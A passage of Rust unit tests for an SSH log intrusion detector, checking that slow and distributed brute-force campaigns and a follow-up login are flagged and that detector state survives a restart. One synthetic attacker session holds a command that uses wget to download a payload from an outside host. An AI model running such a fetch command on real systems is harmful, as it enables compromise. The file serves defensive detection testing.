        let (_, last) = judged.iter().rev().find(|(o, _)| o.kind == RecordKind::Session).unwrap();
        assert!(last.novelty.as_ref().unwrap().escalates(), "the novelty is there, as features");
        assert!(!last.suspicious && !last.escalated, "but no rule raises it: {last:?}");
        d.set_session_rules(SessionRules::Off);
        assert_eq!(d.session_rules, SessionRules::Off);
    }

    #[test]
    fn from_log_lines_a_slow_brute_force_then_a_successful_login_is_caught() {
        let mut d = Detector::new(DetectConfig::default());
        let mut lines = Vec::new();
        let users = ["root", "admin", "pi", "ubnt", "oracle"];
        for hour in 0..24u32 {
            for (k, minute) in [7u32, 37].into_iter().enumerate() {
                let user = users[(hour as usize * 2 + k) % users.len()];
                lines.push(format!(
                    "Nov 20 {hour:02}:{minute:02}:11 host sshd[{}]: Failed password for invalid user {user} from 203.0.113.7 port 4{hour:02}{minute:02} ssh2",
                    3000 + hour * 2 + k as u32
                ));
            }
        }
        lines.extend(sshd_session(
            21,
            (2, 0),
            4000,
            "oracle",
            "203.0.113.7",
            0,
            &["/usr/bin/wget http://203.0.113.9/x"],
        ));
        let (alerts, judged) = run(&mut d, &lines);
        assert_eq!(alerts.len(), 1, "{alerts:?}");
        assert_eq!(alerts[0].kind, CampaignKind::SlowBruteForce);
        assert_eq!(alerts[0].source_ip, Some("203.0.113.7".parse().unwrap()));
        let alert_obs = Detector::alert_observation(&alerts[0], 0);
        assert_eq!(alert_obs.kind, RecordKind::Source);
        assert_eq!(alert_obs.fingerprint.failed_logins, 10);
        let j = d.judge(&alert_obs, &verdict(false, 0.9));
        assert!(j.suspicious && j.escalated);
        // The analyzer's own source window for the address is Suspicious too.
        let (_, src) = judged.iter().find(|(o, _)| o.kind == RecordKind::Source).unwrap();
        assert!(src.suspicious && src.campaign == Some(CampaignKind::SlowBruteForce), "{src:?}");
        // And the login that finally got in.
        let (_, login) = judged.iter().find(|(o, _)| o.kind == RecordKind::Session).unwrap();
        assert!(login.suspicious, "{login:?}");
        assert!(login.reasons[0].contains("login from 203.0.113.7, which ran a slow brute force"), "{login:?}");
        assert!(!login.learnt);
    }

    #[test]
    fn from_log_lines_two_hundred_addresses_once_each_are_one_campaign() {
        let mut d = Detector::new(DetectConfig::default());
        let mut lines = Vec::new();
        for i in 0..200u32 {
            let secs = i * 17;
            lines.push(format!(
                "Nov 22 14:{:02}:{:02} host sshd[{}]: Failed password for root from 198.18.{}.{} port 5{i:04} ssh2",
                secs / 60,
                secs % 60,
                5000 + i,
                i / 100,
                i % 100 + 1
            ));
        }
        let (alerts, judged) = run(&mut d, &lines);
        assert_eq!(alerts.len(), 1, "{alerts:?}");
        assert_eq!(alerts[0].kind, CampaignKind::DistributedBruteForce);
        assert_eq!(d.campaigns().active_campaign().unwrap().sources, 200);
        let obs = Detector::alert_observation(&alerts[0], 0);
        assert_eq!((obs.kind, obs.device.as_ref().unwrap().failing_sources), (RecordKind::Device, 50));
        // The analyzer's device window is marked, as is each source's.
        let (_, dev) = judged.iter().find(|(o, _)| o.kind == RecordKind::Device).unwrap();
        assert!(dev.suspicious && dev.reasons[0].starts_with("a distributed brute force hit this device"), "{dev:?}");
        let flagged = judged.iter().filter(|(o, j)| o.kind == RecordKind::Source && j.suspicious).count();
        assert_eq!(flagged, 200);
    }

    #[test]
    fn detector_state_survives_a_restart() {
        let mut d = Detector::new(DetectConfig::default());
        run(&mut d, &alice_history());
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("baselines.bin");
        d.save(&mut std::fs::File::create(&path).unwrap()).unwrap();
        let (again, err) = Detector::load_or_fresh(&path, DetectConfig::default());
        assert!(err.is_none());
        assert_eq!(again.baselines().sessions_of("alice"), 14);
        std::fs::write(&path, b"BFPB\xff\xff").unwrap();
        let (fresh, err) = Detector::load_or_fresh(&path, DetectConfig::default());
        assert!(err.is_some());
        assert_eq!(fresh.baselines().user_count(), 0);
    }
}
